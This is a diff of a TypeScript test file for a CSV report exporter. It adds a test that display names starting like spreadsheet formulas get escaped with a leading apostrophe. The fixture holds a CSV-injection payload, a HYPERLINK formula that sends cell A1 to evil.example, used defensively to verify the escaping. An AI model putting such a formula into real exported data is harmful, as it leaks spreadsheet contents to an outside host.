@@ -47,6 +47,20 @@ async function sample() {
 
 const lines = (csv: string) => csv.trimEnd().split('\n');
 
+async function collect(readable: NodeJS.ReadableStream) {
+  let text = '';
+  await pipeline(
+    readable,
+    new Writable({
+      write(chunk, _encoding, done) {
+        text += chunk.toString();
+        done();
+      },
+    }),
+  );
+  return text;
+}
+
 describe('toCsv', () => {
   it('writes the documented columns, days then the total for each user', async () => {
     const csv = toCsv(await sample());
@@ -82,6 +96,21 @@ describe('toCsv', () => {
     expect(toCsv(report, { delimiter: ';' }).split('\n')[0]).toContain('user_id;display_name;day');
   });
 
+  it("writes a display name that starts like a formula as text, with a ' before it, unless told not to", async () => {
+    const report = await sample();
+    const named = (displayName: string) => ({
+      ...report,
+      users: report.users.map((u) => (u.id === 'jane' ? { ...u, displayName } : u)),
+    });
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Jane")';
+    const jane = (csv: string) => lines(csv).find((l) => l.startsWith('jane,'))!;
+    expect(jane(toCsv(named(formula)))).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Jane"")",`);
+    for (const start of ['+', '-', '@']) expect(jane(toCsv(named(`${start}1`)))).toContain(`,'${start}1,`);
+    expect(jane(toCsv(named('Jane =1')))).toContain(',Jane =1,');
+    expect(jane(toCsv(named(formula), { escapeFormulas: false }))).toContain(',"=HYPERLINK(');
+    expect(await collect(toCsvStream(named(formula)))).toBe(toCsv(named(formula)));
+  });
+
   it('formats durations and instants', () => {
     expect(hms(0)).toBe('00:00:00');
     expect(hms(90 * 3600_000 + 61_999)).toBe('90:01:01');
@@ -95,20 +124,6 @@ describe('toCsv', () => {
 });
 
 describe('toCsvStream', () => {
-  async function collect(readable: NodeJS.ReadableStream) {
-    let text = '';
-    await pipeline(
-      readable,
-      new Writable({
-        write(chunk, _encoding, done) {
-          text += chunk.toString();
-          done();
-        },
-      }),
-    );
-    return text;
-  }
-
   it('streams exactly what toCsv writes, from a report or from reportRows', async () => {
     const report = await sample();
     expect(await collect(toCsvStream(report))).toBe(toCsv(report));
